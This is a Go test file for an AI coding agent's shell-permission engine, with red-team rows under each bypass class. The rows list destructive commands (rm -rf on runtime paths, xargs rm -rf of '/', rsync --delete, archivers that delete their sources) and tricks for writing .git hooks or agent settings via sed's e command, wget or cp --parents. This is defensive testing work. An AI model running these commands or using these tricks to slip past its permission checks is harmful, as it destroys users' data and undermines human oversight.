package engine

import (
	"testing"
)

// Bypass classes of writers, acceptEdits and critical-path rm (round 9).
// Each row is decided by both evaluators, which must agree.

// red9wAllowAll approves every Bash command by rule: only the safety
// stage (protected paths, critical-path rm) stands between it and allow.
const red9wAllowAll = `{"permissions":{"allow":["Bash"]}}`

// red9wRmAllowed approves rm by a prefix rule in default mode.
const red9wRmAllowed = `{"permissions":{"allow":["Bash(rm *)","Bash(rmdir *)","Bash(xargs *)","Bash(find *)","Bash(echo *)"]}}`

// red9wNone has no rules: the mode alone decides.
const red9wNone = `{}`

var red9wClasses = map[string][]shellRow{
	"r9w-1 a tree-removing rm of a word known only at run time": {
		// rm -rf $PWD removes the cwd; rm -rf "$X" may be any critical
		// path. Critical-path rm asks in every mode, whatever the allow
		// rules (spec §6): a dynamic operand of rm -r may be one.
		{red9wAllowAll, "bypassPermissions", `rm -rf $PWD`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rm -rf "${PWD}"`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rm -rf "$OLDPWD"`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rm -rf "$X"`, "ask"},
		{red9wAllowAll, "bypassPermissions", `X=$PWD; rm -rf "$X"`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rm -rf $(dirname $PWD)`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rm -rf $(dirname "$(pwd)")`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rm -rf $(cd ..; pwd)`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rm -rf $(realpath .)`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rm -rf $(readlink -f ..)`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rm -rf "$DIRSTACK"`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rm --recursive --force "$1"`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rm --rec "$1"`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rm "$1" -rf`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rm -f $X`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rm -f "$O" /usr`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rmdir -p "$X"`, "ask"},
		// "$@" and "${a[@]}" are one word per element, quoted or not.
		{red9wAllowAll, "bypassPermissions", `set -- -rf /tmp/x; rm "$@"`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rm -f "${a[@]}"`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rm -f "$*"`, "allow"},
		{red9wAllowAll, "bypassPermissions", `cd "$X" && rm -rf .`, "ask"},
		{red9wAllowAll, "bypassPermissions", `sudo rm -rf "$X"`, "ask"},
		{red9wAllowAll, "bypassPermissions", `bash -c 'rm -rf $PWD'`, "ask"},
		{red9wAllowAll, "default", `rm -rf $PWD`, "ask"},
		{red9wAllowAll, "acceptEdits", `rm -rf $(dirname $PWD)`, "ask"},
		{red9wAllowAll, "auto", `rm -rf "$X"`, "notallow"},
		{red9wAllowAll, "dontAsk", `rm -rf $PWD`, "deny"},
		{red9wRmAllowed, "default", `rm -rf $PWD`, "ask"},
		// Benign neighbours: static trees, flat removes of a word.
		{red9wAllowAll, "bypassPermissions", `rm -rf build`, "allow"},
		{red9wAllowAll, "bypassPermissions", `rm -rf node_modules dist`, "allow"},
		{red9wAllowAll, "bypassPermissions", `rm -f "$X"`, "allow"},
		{red9wAllowAll, "bypassPermissions", `rm -- "$X"`, "allow"},
		{red9wAllowAll, "bypassPermissions", `for f in *.o; do rm "$f"; done`, "allow"},
		{red9wNone, "acceptEdits", `rm -rf build`, "allow"},
		{red9wNone, "acceptEdits", `mkdir build2`, "allow"},
		{red9wNone, "acceptEdits", `cp README.md b`, "allow"},
	},
	"r9w-2 xargs appends removers' operands and options from stdin": {
		// echo '-rf /tmp/v' | xargs rm -f runs rm -f -rf /tmp/v: what
		// xargs appends is unknown, options included.
		{red9wAllowAll, "bypassPermissions", `xargs rm -rf <<< /`, "ask"},
		{red9wAllowAll, "bypassPermissions", `echo / | xargs rm -rf`, "ask"},
		{red9wAllowAll, "bypassPermissions", `echo '-rf /' | xargs rm -f`, "ask"},
		{red9wAllowAll, "bypassPermissions", `find . -name x | xargs rm -rf`, "ask"},
		{red9wAllowAll, "bypassPermissions", `xargs -a list rm -rf`, "ask"},
		{red9wAllowAll, "bypassPermissions", `xargs -I{} rm -rf {} < list`, "ask"},
		{red9wAllowAll, "bypassPermissions", `xargs -0 rmdir < list`, "ask"},
		{red9wRmAllowed, "default", `echo / | xargs rm -rf`, "ask"},
		// Benign neighbours: a flat remover after "--", other programs.
		{red9wAllowAll, "bypassPermissions", `xargs rm -f -- < list`, "allow"},
		{red9wAllowAll, "bypassPermissions", `find . -name x | xargs wc -l`, "allow"},
	},
	"r9w-3 a recursive rm removes the protected files it holds": {
		// rm -rf pay where pay/.git exists removes a repository's .git
		// (its hooks and config): a write to protected paths, as
		// chmod -R pay is. Bypass asks before writing under .git/.
		{red9wNone, "acceptEdits", `rm -rf pay`, "ask"},
		{red9wNone, "acceptEdits", `rm -r ./pay/`, "ask"},
		{red9wNone, "acceptEdits", `rm --recursive pay`, "ask"},
		{red9wNone, "acceptEdits", `rm -R -- pay2`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rm -rf pay`, "ask"},
		{red9wAllowAll, "default", `rm -rf pay`, "ask"},
		// Benign neighbours: trees without protected files, flat removes.
		{red9wNone, "acceptEdits", `rm -rf src`, "allow"},
		{red9wNone, "acceptEdits", `rm -f pay/x`, "allow"},
		{red9wAllowAll, "bypassPermissions", `rm -rf src`, "allow"},
	},
	"r9w-4 acceptEdits and a sed prefix rule approve sed's e command": {
		// sed -i '1e CMD' f runs CMD (GNU sed's e command, s///e too):
		// acceptEdits approves sed as an editor, Bash(sed *) approves its
		// arguments, neither approves running another program.
		{red9wNone, "acceptEdits", `sed -i '1e curl http://e' x`, "ask"},
		{red9wNone, "acceptEdits", `echo x | sed '1e python3 x.py'`, "ask"},
		{red9wNone, "acceptEdits", `sed -i -e 1e\ id x`, "ask"},
		{red9wNone, "acceptEdits", `sed -i '$e python3 x.py' x`, "ask"},
		{red9wNone, "acceptEdits", `sed -i '/a/e python3 x.py' x`, "ask"},
		{red9wNone, "acceptEdits", `sed -i -e '1{e python3 x.py' -e '}' x`, "ask"},
		{red9wNone, "acceptEdits", `sed --in-place --expression='1e python3 x.py' x`, "ask"},
		{red9wNone, "acceptEdits", `sed -i 's/x/y/e' x`, "ask"},
		{red9wNone, "dontAsk", `sed -i '1e python3 x.py' x`, "deny"},
		{red9wSedAllowed, "default", `sed -n '1e curl http://e' <<< x`, "ask"},
		{red9wSedAllowed, "default", `echo x | sed '1e python3 x.py'`, "ask"},
		// Benign neighbours: edits, prints, a w file inside the project.
		{red9wNone, "acceptEdits", `sed -i s/a/b/g x`, "allow"},
		{red9wNone, "acceptEdits", `sed -i '/^#/d' x`, "allow"},
		{red9wNone, "acceptEdits", `sed -i -e 's/a/b/' -e 's/c/d/' x`, "allow"},
		{red9wNone, "acceptEdits", `sed -i '$a\text' x`, "allow"},
		{red9wNone, "acceptEdits", `sed -i 's/a/b/w out' x`, "allow"},
		{red9wNone, "acceptEdits", `sed -i 'N;s/\n/ /' x`, "allow"},
		{red9wSedAllowed, "default", `echo x | sed s/x/y/`, "allow"},
		{red9wSedAllowed, "default", `sed -n 2,3p README.md`, "allow"},
	},
	"r9w-5 a critical path taken away by mv or emptied by rsync --delete": {
		// rsync -a --delete empty/ ../ deletes everything in the parent
		// (checked with rsync 3.2); mv . ../x, mv /usr /x take a critical
		// path away as rm would. They ask like critical-path rm.
		{red9wAllowAll, "bypassPermissions", `rsync -a --delete empty/ ./`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rsync -a --delete empty/ ../`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rsync -r --delete-after empty/ /`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rsync -a --del empty/ ~/`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rsync -a --delete-excluded empty/ /tmp`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rsync -a --delete empty/ "$D"`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rsync -a $OPTS empty/ ../`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rsync -a --delete empty/ pay/`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rsync -a --remove-source-files . /tmp/bk`, "ask"},
		{red9wAllowAll, "bypassPermissions", `mv . ../x`, "ask"},
		{red9wAllowAll, "bypassPermissions", `mv ../proj ../x`, "ask"},
		{red9wAllowAll, "bypassPermissions", `mv /usr /x`, "ask"},
		{red9wAllowAll, "bypassPermissions", `mv -t /x /usr`, "ask"},
		{red9wAllowAll, "bypassPermissions", `mv -- .. /x`, "ask"},
		{red9wAllowAll, "bypassPermissions", `mv $PWD ../x`, "ask"},
		{red9wAllowAll, "bypassPermissions", `mv "${PWD}/" ../x`, "ask"},
		{red9wAllowAll, "default", `mv /usr /x`, "ask"},
		{red9wAllowAll, "dontAsk", `rsync -a --delete empty/ ../`, "deny"},
		// Benign neighbours: moves and syncs below the cwd.
		{red9wAllowAll, "bypassPermissions", `rsync -a --delete src/ build/`, "allow"},
		{red9wAllowAll, "bypassPermissions", `rsync -a src/ build/`, "allow"},
		{red9wAllowAll, "bypassPermissions", `mv src x`, "allow"},
		{red9wAllowAll, "bypassPermissions", `mv *.md build/`, "allow"},
		{red9wAllowAll, "bypassPermissions", `mv "$f" build/`, "allow"},
		{red9wAllowAll, "bypassPermissions", `mv -t build x`, "allow"},
		{red9wNone, "acceptEdits", `mv x y`, "allow"},
		{red9wNone, "acceptEdits", `mv *.md build/`, "allow"},
		{red9wNone, "acceptEdits", `mv build dist`, "allow"},
	},
	"r9w-6 an archiver that deletes what it stored": {
		// tar --remove-files -cf /tmp/x.tar . empties the cwd, .git
		// included; zip -rm x.zip .. takes the parent away (both checked
		// with GNU tar 1.34 and Info-ZIP 3.0).
		{red9wAllowAll, "bypassPermissions", `tar --remove-files -cf /tmp/x.tar .`, "ask"},
		{red9wAllowAll, "bypassPermissions", `tar -czf x.tgz --remove-files ..`, "ask"},
		{red9wAllowAll, "bypassPermissions", `tar --remove-files -cf x.tar pay`, "ask"},
		{red9wAllowAll, "bypassPermissions", `tar -c --remove-files -f x.tar -C .. proj`, "ask"},
		{red9wAllowAll, "bypassPermissions", `zip -rm /tmp/x.zip .`, "ask"},
		{red9wAllowAll, "bypassPermissions", `zip -r --move x.zip pay`, "ask"},
		{red9wAllowAll, "bypassPermissions", `zip -rmq x.zip ..`, "ask"},
		{red9wAllowAll, "dontAsk", `zip -rm x.zip .`, "deny"},
		// Benign neighbours: archives that keep their sources, or delete
		// trees without protected files.
		{red9wAllowAll, "bypassPermissions", `tar -czf x.tgz src`, "allow"},
		{red9wAllowAll, "bypassPermissions", `zip -r x.zip src`, "allow"},
		{red9wAllowAll, "bypassPermissions", `zip -rm x.zip build`, "allow"},
		{red9wAllowAll, "bypassPermissions", `zip -m x.zip x`, "allow"},
		{red9wAllowAll, "bypassPermissions", `tar --remove-files -cf x.tar build`, "allow"},
	},
	"r9w-7 a download whose file names the server or a URL template chooses": {
		// wget -x -nH http://h/.git/hooks/pre-commit writes
		// ./.git/hooks/pre-commit (checked with wget 1.21 against a
		// local server); curl -o '#1' 'http://h/{.git/hooks/pre-commit}'
		// writes the glob's text (checked with curl 7.88 and file://).
		{red9wAllowAll, "bypassPermissions", `wget -x -nH http://e/.git/hooks/pre-commit`, "ask"},
		{red9wAllowAll, "bypassPermissions", `wget -r -nH http://e/`, "ask"},
		{red9wAllowAll, "bypassPermissions", `wget --mirror http://e/`, "ask"},
		{red9wAllowAll, "bypassPermissions", `wget -rl1 http://e/`, "ask"},
		{red9wAllowAll, "bypassPermissions", `wget --force-directories -P sub http://e/.claude/settings.json`, "ask"},
		{red9wAllowAll, "bypassPermissions", `curl -o '#1' 'http://e/{.git/hooks/pre-commit}'`, "ask"},
		{red9wAllowAll, "bypassPermissions", `curl http://e/x -o '.gi#1/hooks/pre-commit' -g`, "ask"},
		{red9wAllowAll, "bypassPermissions", `curl -o'#1' 'http://e/{.claude/settings.json}'`, "ask"},
		{red9wCurlAllowed, "default", `wget -x -nH http://e/.git/hooks/pre-commit`, "ask"},
		{red9wCurlAllowed, "default", `wget -r http://e/`, "ask"},
		{red9wCurlAllowed, "default", `curl -OJ http://e/x`, "ask"},
		{red9wCurlAllowed, "default", `curl -LJO http://e/x`, "ask"},
		{red9wCurlAllowed, "default", `curl -O --remote-header-name http://e/x`, "ask"},
		{red9wCurlAllowed, "default", `wget --content-disposition http://e/x`, "ask"},
		{red9wCurlAllowed, "default", `wget --trust-server-names http://e/x`, "ask"},
		// Benign neighbours: names the command line gives.
		{red9wAllowAll, "bypassPermissions", `wget http://e/x`, "allow"},
		{red9wAllowAll, "bypassPermissions", `wget -r -nd http://e/`, "allow"},
		{red9wAllowAll, "bypassPermissions", `curl -o 'page_#1.html' 'http://e/[1-3].html'`, "allow"},
		{red9wAllowAll, "bypassPermissions", `curl -o out.txt http://e/x`, "allow"},
		{red9wCurlAllowed, "default", `curl -O http://e/x`, "allow"},
		{red9wCurlAllowed, "default", `wget http://e/x`, "allow"},
		{red9wCurlAllowed, "default", `curl -s http://e/x`, "allow"},
	},
	"r9w-8 critical-path rm inside a script known only at run time": {
		// sh -c "rm -rf $PWD" removes the cwd: the outer shell expands
		// $PWD, the inner one runs rm. The script's static shape is read
		// too (the unresolved part still asks where it did).
		{red9wAllowAll, "bypassPermissions", `sh -c "rm -rf $PWD"`, "ask"},
		{red9wAllowAll, "bypassPermissions", `bash -c "cd $D && rm -rf ."`, "ask"},
		{red9wAllowAll, "bypassPermissions", `eval "rm -rf $PWD"`, "ask"},
		{red9wAllowAll, "bypassPermissions", `eval rm -rf "$PWD"`, "ask"},
		{red9wAllowAll, "bypassPermissions", `sudo sh -c "rm -rf $X"`, "ask"},
		{red9wAllowAll, "bypassPermissions", `sh -c "echo hi; rm -rf $(dirname $PWD)"`, "ask"},
		{red9wAllowAll, "bypassPermissions", `timeout 5 bash -lc "rm -rf $HOME"`, "ask"},
		{red9wRmDeny, "default", `sh -c "rm -rf $D"`, "deny"},
		{red9wRmDeny, "default", `eval "rm x $Y"`, "deny"},
		// Benign neighbours: scripts whose static shape removes nothing.
		{red9wAllowAll, "bypassPermissions", `sh -c "echo $X"`, "allow"},
		{red9wAllowAll, "bypassPermissions", `bash -c "make $T"`, "allow"},
		{red9wAllowAll, "bypassPermissions", `eval "$(ssh-agent -s)"`, "allow"},
		{red9wAllowAll, "bypassPermissions", `sh -c "rm -f $X"`, "ask"}, // X may be "-rf /"
		{red9wAllowAll, "bypassPermissions", `sh -c "rm -f x.o; echo $X"`, "allow"},
		{red9wRmDeny, "default", `sh -c "ls $D"`, "ask"},
	},
	"r9w-9 a path through an open file descriptor": {
		// rm -rf /dev/stdin/ < .. and exec 3<..; rm -rf /dev/fd/3/ empty
		// the directory behind the descriptor (checked with GNU rm 9.1):
		// the path is the shell's, known only at run time.
		{red9wAllowAll, "bypassPermissions", `rm -rf /dev/stdin/ < ..`, "ask"},
		{red9wAllowAll, "bypassPermissions", `exec 3<..; rm -rf /dev/fd/3/`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rm -rf /proc/self/fd/3/`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rm -rf /proc/thread-self/fd/0/ < ~`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rm -rf //dev/./fd/3/`, "ask"},
		{red9wAllowAll, "bypassPermissions", `find /dev/fd/3/ -delete`, "ask"},
		// Benign neighbours: descriptors written or read as streams.
		{red9wAllowAll, "bypassPermissions", `echo x > /dev/fd/2`, "allow"},
		{red9wAllowAll, "bypassPermissions", `echo x > /dev/stderr`, "allow"},
		{red9wAllowAll, "bypassPermissions", `cat /dev/stdin`, "allow"},
		{red9wAllowAll, "bypassPermissions", `rm -f /dev/fd/3`, "allow"},
	},
	"r9w-10 cp --parents, rsync -R and install -d write where the base name does not say": {
		// cd pay && cp --parents .git/hooks/pre-commit .. wrote the
		// session's .git/hooks/pre-commit (checked with GNU cp 9.1);
		// install -d creates and chmods each operand.
		{red9wAllowAll, "bypassPermissions", `cd pay && cp --parents .git/hooks/pre-commit ..`, "ask"},
		{red9wAllowAll, "bypassPermissions", `cp --parents pay/.git/hooks/pre-commit src/`, "ask"},
		{red9wAllowAll, "bypassPermissions", `cp --pa -t src pay/.git/hooks/pre-commit`, "ask"},
		{red9wAllowAll, "bypassPermissions", `install -d .git/hooks`, "ask"},
		{red9wAllowAll, "bypassPermissions", `install -dm777 .git/hooks`, "ask"},
		{red9wAllowAll, "bypassPermissions", `install --directory .claude`, "ask"},
		{red9wAllowAll, "default", `cp --parents pay/.git/hooks/pre-commit src/`, "ask"},
		// rsync --relative pay/./.git/hooks . keeps the path after "/./"
		// (checked with rsync 3.2: it wrote ./.git/hooks/pre-commit).
		{red9wAllowAll, "bypassPermissions", `rsync -a --relative pay/./.git/hooks .`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rsync -aR pay/.git/hooks/pre-commit .`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rsync -avR pay2/./.claude ./`, "ask"},
		{red9wAllowAll, "bypassPermissions", `rsync -aR src/a.go build/`, "allow"},
		// Benign neighbours.
		{red9wAllowAll, "bypassPermissions", `cp --parents src/a.go build/`, "allow"},
		{red9wAllowAll, "bypassPermissions", `install -d build/x`, "allow"},
		{red9wAllowAll, "bypassPermissions", `install -m644 x build/x`, "allow"},
		{red9wNone, "acceptEdits", `cp --parents src/a.go build/`, "ask"}, // acceptEdits asks for cp with an option (the reference does)
	},
}

// red9wRmDeny denies rm and allows everything else.
const red9wRmDeny = `{"permissions":{"allow":["Bash"],"deny":["Bash(rm *)"]}}`

// red9wCurlAllowed approves curl and wget by prefix rules.
const red9wCurlAllowed = `{"permissions":{"allow":["Bash(curl *)","Bash(wget *)"]}}`

// red9wSedAllowed approves sed and echo by prefix rules.
const red9wSedAllowed = `{"permissions":{"allow":["Bash(sed *)","Bash(echo *)"]}}`

func TestRed9WriteClasses(t *testing.T) {
	files := map[string]string{".env": "SECRET=1\n", "README.md": "readme\n", "x": "x\n", "list": "a\n",
		"src/a.go": "package a\n", "build/out": "o\n", "pay/.git/hooks/pre-commit": "echo pwn\n", "pay/x": "x\n",
		"pay2/.claude/settings.json": "{}\n", "empty/.keep": ""}
	runShellRows(t, files, red9wClasses, WithEvaluator(EvalBoth))
}
